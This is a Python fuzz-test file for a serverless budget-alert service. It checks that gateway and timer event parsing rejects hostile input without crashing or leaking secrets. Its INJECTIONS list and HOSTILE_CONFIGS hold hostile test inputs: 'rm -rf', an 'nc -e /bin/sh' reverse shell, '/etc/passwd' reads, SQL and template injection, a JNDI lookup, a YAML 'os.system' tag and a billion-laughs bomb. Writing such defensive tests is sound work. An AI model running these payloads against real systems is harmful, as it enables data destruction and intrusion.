"""Fuzz of the event parsers: API-gateway events (``lib.api.events``) and the timer trigger (``handlers.timer``).

An API-gateway event becomes a normalised ``Request`` or an ``ApiProblem`` 400/413 — never another
exception; a timer event of any shape runs one check or returns a failure document — never a traceback,
never a secret, and only a retryable state error is raised (so SCF's retry can help).
"""

from __future__ import annotations

import base64
import binascii
import json
import logging
import re
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from handlers import timer
from lib.api.errors import ApiProblem
from lib.api.events import MAX_BODY, Request, integrated_response, jsonable, parse_event, request_id
from lib.api.response import Response
from lib.app import instance
from lib.errors import StateError, StoreError
from tests.api_fixtures import event, make_app

SETTINGS = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])

INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE budgets; --",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc -e /bin/sh x 1",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://x/a}",
    "%s%s%n",
    "{0.__class__.__mro__}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e/%2e%2e/",
    "....//....//",
    "\\..\\..\\windows\\win.ini",
    "\x00",
    "\r\nX-Injected: 1",
    "\u202e\u200b\ufeff",
    "💸🔥",
    "流量/预算",
    "a" * 3000,
]
text_or_injection = st.sampled_from(INJECTIONS) | st.text(max_size=40)
json_scalars = st.none() | st.booleans() | st.integers() | st.floats() | text_or_injection
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(text_or_injection, inner, max_size=4),
    max_leaves=20,
)
paths = (
    st.sampled_from(["/status", "/release/status", "/test/", "/prepub", "//check//", "/silences/x/", "/"])
    | st.builds(lambda parts: "/" + "/".join(parts), st.lists(text_or_injection, max_size=4))
    | text_or_injection
)


@st.composite
def gateway_events(draw: st.DrawFn) -> dict[str, Any]:
    """Events shaped like API gateway's, with any field missing, of the wrong type or hostile."""
    ev = event(
        draw(st.sampled_from(["GET", "POST", "DELETE", "get", "Patch", "OPTIONS"])),
        draw(paths),
        token=draw(st.none() | text_or_injection),
        body=draw(st.none() | json_values | st.binary(max_size=64)),
        query=draw(st.dictionaries(text_or_injection, text_or_injection, max_size=3)),
        headers=draw(st.dictionaries(text_or_injection, text_or_injection, max_size=3)),
        base64_body=draw(st.booleans()),
    )
    for key in draw(st.lists(st.sampled_from(sorted(ev)), max_size=3)):
        if draw(st.booleans()):
            ev.pop(key, None)
        else:
            ev[key] = draw(json_values)
    return ev


def _parse(ev: Any, context: Any = None) -> Request | None:
    """parse_event's contract: a normalised Request, or an ApiProblem with a 400 or 413 and a message."""
    try:
        request = parse_event(ev, {} if context is None else context)
    except ApiProblem as exc:
        problem: ApiProblem | None = exc
    else:
        problem = None
    if problem is not None:
        assert problem.status in {400, 413}
        assert problem.message and problem.code
        return None
    assert re.fullmatch(r"[A-Z]{1,16}", request.method)
    assert request.path.startswith("/") and "//" not in request.path and "?" not in request.path
    assert request.path == "/" or not request.path.endswith("/")
    assert all(isinstance(k, str) and k == k.strip().lower() for k in request.headers)
    assert all(isinstance(v, str) for v in (*request.headers.values(), *request.query.values()))
    assert isinstance(request.body, bytes) and len(request.body) <= MAX_BODY
    assert 0 < len(request.request_id) <= 128
    return request


def _json_problem(request: Request) -> ApiProblem | None:
    try:
        request.json()
    except ApiProblem as exc:
        return exc
    return None


@SETTINGS
@given(gateway_events(), st.none() | json_values)
def test_gateway_events_parse_or_are_refused_with_400(ev: dict[str, Any], context: Any) -> None:
    request = _parse(ev, context)
    if request is not None:
        problem = _json_problem(request)
        assert problem is None or (problem.status == 400 and problem.code == "invalid_json")


@SETTINGS
@given(json_values, json_values)
def test_any_json_value_as_event_and_context(ev: Any, context: Any) -> None:
    _parse(ev, context)
    assert 0 < len(request_id(ev, context)) <= 128


@SETTINGS
@given(st.sampled_from(["authorization", "Content-Type", "X-Request-Id", "idempotency-key"]), st.data())
def test_header_names_are_case_insensitive(name: str, data: st.DataObject) -> None:
    spelled = "".join(c.upper() if data.draw(st.booleans()) else c.lower() for c in name)
    value = data.draw(text_or_injection | st.lists(text_or_injection, min_size=1, max_size=3))
    request = parse_event({"httpMethod": "GET", "path": "/x", "headers": {f" {spelled} ": value}}, {})
    expected = ", ".join(value) if isinstance(value, list) else value
    assert request.header(name) == request.header(name.upper()) == expected


@SETTINGS
@given(st.dictionaries(text_or_injection, st.lists(json_scalars, max_size=3) | json_scalars, max_size=5))
def test_query_arrays_take_their_first_value(raw: dict[str, Any]) -> None:
    request = parse_event({"httpMethod": "GET", "path": "/x", "queryString": raw}, {})
    for key, value in raw.items():
        first = (value[0] if value else "") if isinstance(value, list) else value
        assert request.query[key] == ("" if first is None else str(first))


@SETTINGS
@given(st.binary(max_size=2048))
def test_base64_bodies_round_trip(data: bytes) -> None:
    ev = {"httpMethod": "POST", "path": "/x", "body": base64.b64encode(data).decode(), "isBase64Encoded": "TRUE"}
    assert parse_event(ev, {}).body == data


@SETTINGS
@given(st.text(min_size=1, max_size=200))
def test_invalid_base64_is_a_400_naming_the_body(text: str) -> None:
    try:
        base64.b64decode(text, validate=True)
    except (binascii.Error, ValueError):
        pass
    else:
        assume(False)
    with pytest.raises(ApiProblem) as info:
        parse_event({"httpMethod": "POST", "path": "/x", "body": text, "isBase64Encoded": True}, {})
    assert info.value.status == 400 and info.value.details == [{"field": "body", "message": info.value.message}]


@SETTINGS
@given(st.lists(text_or_injection, min_size=1, max_size=5))
def test_unicode_traversal_and_injection_paths_are_normalised_verbatim(parts: list[str]) -> None:
    raw = "/" + "/".join(parts)
    request = _parse({"httpMethod": "GET", "path": raw}, {})
    if request is not None:
        # Nothing is decoded or resolved: '..' stays a literal segment, so it can only miss a route.
        # No requestContext: a Function URL's event, whose path has no stage to strip.
        kept = [p for p in raw.split("?", 1)[0].split("/") if p]
        assert [p for p in request.path.split("/") if p] == kept


# --- sizes and depth ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "b64", "status"),
    [
        ("x" * MAX_BODY, False, None),
        ("x" * (MAX_BODY + 1), False, 413),
        ("é" * (MAX_BODY // 2 + 1), False, 413),  # counted in bytes, not characters
        ("x" * 10_000_000, False, 413),
        (base64.b64encode(b"x" * MAX_BODY).decode(), True, None),
        (base64.b64encode(b"x" * (MAX_BODY + 1)).decode(), True, 413),
        ("A" * 20_000_000, True, 413),
    ],
    ids=["limit", "limit+1", "multibyte", "10MB", "b64-limit", "b64-limit+1", "b64-20MB"],
)
def test_body_size_limit(body: str, b64: bool, status: int | None) -> None:
    started = time.perf_counter()
    ev = {"httpMethod": "POST", "path": "/check", "body": body, "isBase64Encoded": b64}
    if status is None:
        assert len(parse_event(ev, {}).body) == MAX_BODY
    else:
        with pytest.raises(ApiProblem) as info:
            parse_event(ev, {})
        assert info.value.status == status and str(MAX_BODY) in info.value.message
    assert (
        time.perf_counter() - started < 10.0
    )  # a hang guard: the refusal is immediate, the margin is for loaded machines


def _deep(depth: int, open_: str = "[", close: str = "]") -> str:
    return open_ * depth + close * depth


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (_deep(30_000), "nested too deeply"),
        ('{"a":' * 5000 + "1" + "}" * 5000, "nested too deeply"),
        ('{"a": ' + "9" * 5000 + "}", "too many digits"),
        ('{"a": NaN}', "NaN is not a JSON number"),
        ('{"a": -Infinity}', "Infinity is not a JSON number"),
        ('{"a": 1e999999}', ""),
        ('{"a": "\\ud800"}', ""),
        ('{"a": 1', "Expecting"),
        ("\ufeff{}", "Unexpected UTF-8 BOM"),
    ],
)
def test_hostile_json_bodies_are_400_or_parse(body: str, message: str) -> None:
    request = parse_event({"httpMethod": "POST", "path": "/check", "body": body}, {})
    problem = _json_problem(request)
    if problem is not None:
        assert problem.status == 400 and problem.code == "invalid_json"
        assert message in problem.message
        assert "sys." not in problem.message  # no interpreter hints in an answer
    else:
        assert not message, "expected a 400"


@pytest.mark.parametrize("body", [[[[]]], {"a": {"b": [1, 2]}}, []])
def test_object_bodies_from_hand_written_events(body: Any) -> None:
    request = parse_event({"httpMethod": "POST", "path": "/check", "body": body}, {})
    assert request.json() == body


def _nested(depth: int) -> list[Any]:
    value: list[Any] = []
    for _ in range(depth):
        value = [value]
    return value


def _cycle() -> list[Any]:
    value: list[Any] = []
    value.append(value)
    return value


@pytest.mark.parametrize(
    "body", [_nested(50_000), _cycle(), {(1, 2): "tuple key"}, {"a": {1j}}], ids=["deep", "cycle", "key", "set"]
)
def test_object_bodies_that_are_not_json_are_a_400(body: Any) -> None:
    with pytest.raises(ApiProblem) as info:
        parse_event({"httpMethod": "POST", "path": "/check", "body": body}, {})
    assert info.value.status == 400 and info.value.details == [{"field": "body", "message": info.value.message}]


# --- integrated responses -------------------------------------------------------------------------------

SECRETS = ("hook-secret-0f3e9a1b", "https://hooks.example/services/T0/B0/abcdefgh1234")


@SETTINGS
@given(json_values, st.sampled_from(SECRETS), st.sampled_from([200, 400, 404, 413, 503]))
def test_responses_are_valid_utf8_json_and_mask_secrets(value: Any, secret: str, status: int) -> None:
    body = {"value": value, "leak": f"x{secret}y", secret: [secret, {"k": secret}], "echo": "\ud800" + secret}
    shaped = integrated_response(Response(status, body), request_id="r", secrets=SECRETS)
    assert shaped["statusCode"] == status and shaped["isBase64Encoded"] is False
    data = shaped["body"].encode("utf-8")  # a lone surrogate must not make the body unencodable
    for each in SECRETS:
        assert each not in shaped["body"]
    decoded = json.loads(data)
    assert decoded["echo"].startswith("\ud800")
    assert jsonable(decoded, SECRETS) == decoded


# --- timer events -------------------------------------------------------------------------------------

TIMER_SECRETS = {
    "TENCENTCLOUD_SECRETID": "AKIDfuzzsecretid0001",
    "TENCENTCLOUD_SECRETKEY": "tcsecretkey-abcdef0123456789",
    "BUDGET_API_TOKEN": "apitoken-d00dfeed-1234",
    "WECOM_URL": "https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=wecomkey-5b1e0c77d2",
    "DINGTALK_SECRET": "SECdingsecret-41d7e2b9",
    "PLAIN": "plainvalue-hidden-c0ffee",
}
timer_events = st.fixed_dictionaries(
    {},
    optional={
        "Type": st.sampled_from(["Timer", "timer", "", "Cos"]) | json_values,
        "TriggerName": text_or_injection | json_values,
        "Time": st.sampled_from(["2026-11-22T02:00:00Z", "garbage", "9999-99-99T99:99:99Z", ""]) | json_values,
        "Message": text_or_injection | json_values,
    },
)


@SETTINGS
@given(timer_events | json_values, st.none() | json_values)
def test_timer_events_of_any_shape_run_one_check(ev: Any, context: Any) -> None:
    app = make_app()
    previous, instance._slot.app = instance._slot.app, app
    try:
        result = timer.main_handler(ev, context)
    finally:
        instance._slot.app = previous
    assert result["trigger"] == "timer" and result["errors"] == []
    assert [call["trigger"] for call in app.calls] == ["timer"]
    json.dumps(result)


HOSTILE_CONFIGS = {
    "secret-in-timezone": "timezone: ${TENCENTCLOUD_SECRETKEY}\n",
    "secret-as-limit": (
        "channels: {ops: {type: wecom, url: '${WECOM_URL}'}}\n"
        "budgets: [{name: b, source: teo, metric: acc_flux, limit: '${DINGTALK_SECRET}', channels: [ops]}]\n"
    ),
    "plain-named-secret": "language: en\nbudgets: [{name: '${PLAIN}!', source: billing, metric: cost}]\n",
    "billion-laughs": "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"{c}: &{c} [" + ", ".join([f"*{p}"] * 10) + "]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    + "budgets: *i\n",
    "python-tag": "timezone: !!python/object/apply:os.system ['echo pwned']\n",
    "nul": "timezone: \x00\n",
    "deep": "budgets: " + "[" * 5000 + "]" * 5000 + "\n",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_CONFIGS))
def test_timer_with_a_hostile_configuration_returns_a_clear_failure_without_secrets(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "budgets.yaml"
    path.write_text(HOSTILE_CONFIGS[name], encoding="utf-8")
    for key, value in TIMER_SECRETS.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("BUDGET_CONFIG", str(path))
    monkeypatch.setenv("BUDGET_STATE", "memory://fuzz-timer")
    monkeypatch.setenv("BUDGET_API_ENDPOINT", "http://127.0.0.1:9")  # never the internet, whatever happens
    monkeypatch.setattr(instance._slot, "app", None)
    caplog.set_level(logging.DEBUG)
    started = time.perf_counter()
    result = timer.main_handler({"Type": "Timer", "Time": "2026-11-22T02:00:00Z"}, {})
    assert (
        time.perf_counter() - started < 30.0
    )  # a hang guard: the refusal is immediate, the margin is for loaded machines
    assert result["run_id"] is None and result["evaluations"] == []
    (error,) = result["errors"]
    assert error["source"] == "run" and str(path) in error["message"]
    everything = json.dumps(result) + "\n".join(r.getMessage() for r in caplog.records)
    assert "Traceback" not in json.dumps(result)
    for secret in TIMER_SECRETS.values():
        assert secret not in everything
    assert instance._slot.app is None  # a broken instance is rebuilt on the next tick, not cached


@pytest.mark.parametrize(
    ("error", "raises"),
    [
        (StoreError("COS answered 503", status=503, retryable=True), True),
        (StoreError("COS answered 403", status=403, retryable=False), False),
        (StateError("state object unreadable"), False),
    ],
)
def test_only_retryable_state_errors_reach_scf(error: Exception, raises: bool) -> None:
    app = make_app()
    app.fail_with = error
    previous, instance._slot.app = instance._slot.app, app
    try:
        if raises:
            with pytest.raises(StateError):
                timer.main_handler({"Type": "Timer"}, {})
        else:
            result = timer.main_handler({"Type": "Timer"}, {})
            assert result["errors"] == [{"source": "run", "message": str(error)}]
    finally:
        instance._slot.app = previous


@pytest.mark.parametrize("name", sorted(HOSTILE_CONFIGS))
def test_a_warm_timer_keeps_its_configuration_when_an_edit_is_hostile(name: str, tmp_path: Path) -> None:
    path = tmp_path / "budgets.yaml"
    path.write_text(HOSTILE_CONFIGS[name], encoding="utf-8")
    app = make_app()
    app.environ, app.config_source = dict(TIMER_SECRETS), str(path)
    before = app.config
    previous, instance._slot.app = instance._slot.app, app
    try:
        started = time.perf_counter()
        result = timer.main_handler({"Type": "Timer"}, {})
        assert (
            time.perf_counter() - started < 30.0
        )  # a hang guard: the refusal is immediate, the margin is for loaded machines
    finally:
        instance._slot.app = previous
    assert result["trigger"] == "timer" and app.config is before  # the alerts keep running
    (problem,) = app.config_problems
    assert problem.startswith("configuration not reloaded") and str(path) in problem
    for secret in TIMER_SECRETS.values():
        assert secret not in problem
